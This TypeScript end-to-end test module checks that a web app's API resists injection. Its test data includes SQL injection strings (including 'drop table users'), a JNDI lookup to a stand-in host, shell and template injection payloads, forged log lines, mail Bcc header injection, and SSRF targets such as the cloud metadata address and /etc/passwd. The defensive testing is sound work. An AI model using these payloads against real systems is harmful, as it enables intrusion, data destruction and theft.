/** Text that is code for whatever reads it next: SQL, a header, a log, a mail, TwiML, a template, a calendar. */
import { readdir, readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { PASSWORD } from '../../api.js';
import { eventually } from '../../wait.js';
import type { Attack } from '../attack.js';
import type { HttpRequest } from '../http.js';
import { assertEqual, assertNoServerError, assertStatus, assertThat } from '../assertions.js';
import type { Target } from '../target.js';
import { freshNonce, NEW_PASSWORD } from '../steps.js';

const SQL = [
  "' or '1'='1",
  "'; drop table users; --",
  "' union select password_hash from users --",
  '") or 1=1 --',
  '1; select pg_sleep(5)',
  "\\'; select 1 --",
  '${jndi:ldap://elsewhere.example/a}',
  '{{constructor.constructor("return 1")()}}',
  '$(sleep 5)',
  '`sleep 5`',
  '%27%20or%201=1',
  '\u2019 or 1=1',
];

/** Every call that uses the caller's text in a query. */
const QUERIES: readonly ((text: string, target: Target) => HttpRequest)[] = [
  (text) => ({ path: '/api/auth/login', body: { email: text, password: text } }),
  (text) => ({ path: '/api/auth/reset-password', body: { token: text, password: NEW_PASSWORD } }),
  (text) => ({ path: `/api/castaways/${encodeURIComponent(text)}` }),
  (text) => ({ path: `/api/calendar/${encodeURIComponent(text)}.ics` }),
  ...[
    (text: string) => `/api/feedback/check/${text}`,
    (text: string) => `/api/admin/audit?action=${text.slice(0, 80)}&limit=5`,
    (text: string) => `/api/admin/audit?actor=${text}&before=${text}`,
    (text: string) => `/api/feedback?surveyType=${text}`,
    (text: string) => `/api/admin/analytics/head-to-head?user1=${text}&user2=x`,
    (text: string) => `/api/sms/logs?limit=${text}`,
  ].map((pathOf) => (text: string, { admin: { token } }: Target) => ({
    path: pathOf(encodeURIComponent(text)),
    token,
  })),
  (text, { admin: { token } }) => {
    const body = { recipientFilter: 'custom', customRecipients: [text] };
    return { path: '/api/sms/blast/estimate', token, body };
  },
];

const sqlInQueries = SQL.map((text): Attack => ({
  name: `put SQL into a query: ${text}`,
  run: async (target) => {
    const users = (await target.admin.client.listUsers()).length;
    for (const make of QUERIES) {
      const one = make(text, target);
      const startedAt = performance.now();
      const response = await target.send({ ...one, from: target.freshAddress() });
      assertNoServerError(response, one.path);
      assertThat(performance.now() - startedAt < 4_500, `${one.path} took too long`);
      // Nothing has that name; only the audit log returns an empty list.
      const found = response.status === 200 ? (response.json as { entries?: unknown[] }).entries : [];
      assertEqual(found, [], `entries in ${one.path}`);
    }
    assertEqual((await target.admin.client.listUsers()).length, users, 'number of accounts afterwards');
  },
}));

const sqlInStore: Attack = {
  name: 'store SQL in a text',
  run: async (target) => {
    const who = await target.newPlayer('bobby');
    const { name, email, username } = await who.client.getOwnUser();
    for (const text of SQL) {
      // Other fields refuse web addresses, and some of these texts look like one.
      const user = await who.client.updateProfile({ body: { name, email, username, about: text } });
      assertEqual(user.about, text, 'the stored text');
    }
  },
};

/** The text of each process's log, by file name. */
async function logsOf({ system }: Target): Promise<[name: string, text: string][]> {
  const folder = process.env['E2E_LOG_DIR'] ?? system.dataDir;
  const names = (await readdir(folder)).filter((name) => name.endsWith('.log') && name !== 'twilio.log');
  assertThat(names.length >= 9, `there are only ${names.length} logs`);
  return await Promise.all(
    names.map(async (name): Promise<[string, string]> => [name, await readFile(join(folder, name), 'utf8')]),
  );
}

const MARK = 'forged-log-line';

const logLines: Attack = {
  name: 'forge a log line',
  run: async (target) => {
    const line = `x\n{"level":"error","msg":"${MARK}"}\r\n{"level":50,"msg":"${MARK}"}`;
    const encoded = encodeURIComponent(line);
    const from = target.freshAddress();
    const requests: readonly HttpRequest[] = [
      { path: '/api/auth/login', body: { email: line, password: line } },
      { path: '/api/auth/forgot-password', body: { email: `${line}@x.example` } },
      { path: `/api/castaways/${encoded}?q=${encoded}` },
      { path: '/api/castaways', headers: { 'user-agent': encoded, referer: encoded } },
      { path: '/api/castaways', headers: { traceparent: `00-${encoded}-x-01` } },
    ];
    for (const request of requests) await target.send({ ...request, from });
    for (const [name, text] of await logsOf(target)) {
      for (const one of text.split('\n').filter((each) => each.startsWith('{') && each.includes(MARK))) {
        const { msg } = JSON.parse(one) as { msg?: unknown };
        assertThat(msg !== MARK, `${name} contains a forged line`);
      }
    }
  },
};

const secretsInLogs: Attack = {
  name: 'find a password, a token or a phone number in a log',
  run: async (target) => {
    const { send } = target;
    const who = await target.newPlayer('careful');
    const [password, mailed] = ['never-to-be-logged-1', 'never-to-be-logged-2'];
    const from = target.freshAddress();
    await send({ path: '/api/auth/login', body: { email: who.email, password }, from });
    const phone = await target.bindPhone(who);
    const { token: link } = await who.client.renewCalendarToken();
    await send({ path: `/api/calendar/${link}.ics` });
    await send({ path: '/api/auth/me', token: who.token });
    // Mailed links, which browsers open with the token in the query.
    for (const page of ['reset-password', 'confirm-email', 'revert-email']) {
      await send({ path: `/${page}?token=${mailed}`, headers: { referer: `/${page}?token=${mailed}` } });
      await send({ path: `/api/auth/${page}?token=${mailed}`, body: { token: mailed, password }, from });
    }
    const secrets = [password, mailed, PASSWORD, who.token, who.email, phone, link];
    for (const [name, text] of await logsOf(target)) {
      const found = secrets.filter((secret) => text.includes(secret));
      assertEqual(found, [], `secrets in ${name}`);
    }
  },
};

/** Waits for a mail that was requested after all others: mails and other work in the background are done in order. */
async function untilMailed({ send, mailbox, freshAddress, newPlayer }: Target): Promise<void> {
  const { email } = await newPlayer();
  await send({ path: '/api/auth/forgot-password', body: { email }, from: freshAddress() });
  const arrived = () => mailbox.mails.some(({ to }) => to === email);
  await eventually(() => assertThat(arrived(), 'no mail arrived'));
}

const mailHeaders: Attack = {
  name: 'add a header, a recipient or text to our mails',
  run: async (target) => {
    const { send, mailbox, freshAddress, freshWord } = target;
    const evil = [
      'x\r\nBcc: spam@elsewhere.example',
      'x\nSubject: Buy now',
      'x%0d%0aBcc: spam@elsewhere.example',
    ];
    const from = freshAddress();
    for (const text of evil) {
      const addressed = `${freshWord('mailed')}@example.com`;
      for (const email of [`${text}@example.com`, addressed]) {
        const body = { email, name: text, username: text, password: PASSWORD };
        assertNoServerError(await send({ path: '/api/auth/signup', body, from }), 'signing up');
      }
      const spam = 'spam@elsewhere.example';
      for (const email of [addressed, `${addressed}\r\nBcc: ${spam}`, `${addressed}, ${spam}`])
        assertNoServerError(await send({ path: '/api/auth/forgot-password', body: { email }, from }));
    }
    await untilMailed(target);
    for (const { to, text } of mailbox.mails) {
      assertThat(!to.includes('elsewhere.example') && !to.includes(','), `a mail went to ${to}`);
      const [head = ''] = text.split('\r\n\r\n');
      assertThat(!/^bcc:|^subject: buy/im.test(head), `a mail has the headers ${head}`);
    }
  },
};

/** A server that counts requests, to check that nothing is fetched from it. */
async function startBait(): Promise<{ readonly url: string; hits(): number; stop(): void }> {
  let hits = 0;
  const server = createServer((_request, response) => {
    hits += 1;
    response.writeHead(200, { 'content-type': 'image/png' }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const stop = (): void => {
    server.closeAllConnections();
    server.close();
  };
  return { url: `http://127.0.0.1:${port}/bait.png`, hits: () => hits, stop };
}

const requestForgery: Attack = {
  name: 'make the server fetch an address',
  run: async (target) => {
    const { send, admin, issuer, freshAddress, freshWord } = target;
    const bait = await startBait();
    try {
      // Checks that it counts requests.
      await fetch(bait.url);
      assertEqual(bait.hits(), 1, 'requests to the bait');
      for (const imageUrl of [bait.url, 'http://169.254.169.254/latest/meta-data/', 'file:///etc/passwd']) {
        const body = { name: freshWord('bait'), imageUrl };
        const response = await send({ path: '/api/admin/castaway', token: admin.token, body });
        assertNoServerError(response, imageUrl);
        assertThat(!/root:|ami-id/.test(response.text), 'the server fetched the address');
        if (imageUrl === bait.url) assertStatus(response, 201, 'creating the castaway');
        const { id } = (response.json ?? {}) as { id?: string };
        if (id === undefined) continue;
        // Read it as a page would, and delete it again.
        assertStatus(await send({ path: `/api/castaways/${id}` }), 200, 'reading the castaway');
        await admin.client.deleteCastaway({ params: { id } });
      }
      const sub = freshWord('pictured');
      const person = { email: `${sub}@example.com`, name: 'Pictured', picture: bait.url };
      const token = await issuer.idToken({ ...person, sub, nonce: await freshNonce(target) });
      const signIn = { path: '/api/auth/auth0-login', body: { ...person, token }, from: freshAddress() };
      assertStatus(await send(signIn), 200, 'signing in by the identity provider');
      await untilMailed(target);
      assertEqual(bait.hits(), 1, 'requests to the bait afterwards');
    } finally {
      bait.stop();
    }
  },
};

export const injection: readonly Attack[] = [
  ...[...sqlInQueries, sqlInStore, logLines, secretsInLogs, mailHeaders, requestForgery],
];
